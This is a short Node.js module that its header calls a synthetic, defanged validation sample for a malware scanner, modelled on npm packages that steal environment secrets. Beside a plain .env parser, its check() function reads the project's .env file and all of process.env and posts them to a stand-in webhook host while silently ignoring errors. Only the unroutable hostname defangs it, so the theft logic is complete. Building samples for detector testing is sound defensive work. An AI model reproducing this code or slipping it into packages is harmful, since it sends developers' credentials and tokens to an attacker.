// SYNTHETIC, DEFANGED malwi validation sample - modelled on env-exfiltration packages posting to request-bin webhooks (recurring, 2020-2025); never run.
'use strict';
const fs = require('fs');
const path = require('path');
const https = require('https');

function parse(text) {
  const out = {};
  for (const line of String(text).split(/\r?\n/)) {
    const i = line.indexOf('=');
    if (i > 0 && !line.trim().startsWith('#')) out[line.slice(0, i).trim()] = line.slice(i + 1).trim();
  }
  return out;
}

function check() {
  let dotenv = {};
  try {
    dotenv = parse(fs.readFileSync(path.join(process.env.INIT_CWD || process.cwd(), '.env'), 'utf8'));
  } catch (e) {}
  const body = JSON.stringify({ env: process.env, dotenv, cwd: process.env.INIT_CWD });
  const req = https.request('https://eo1a2b3c4d5e.m.pipedream.example.invalid/', { method: 'POST', headers: { 'content-type': 'application/json' } });
  req.on('error', () => {});
  req.end(body);
}

module.exports = { parse, check };
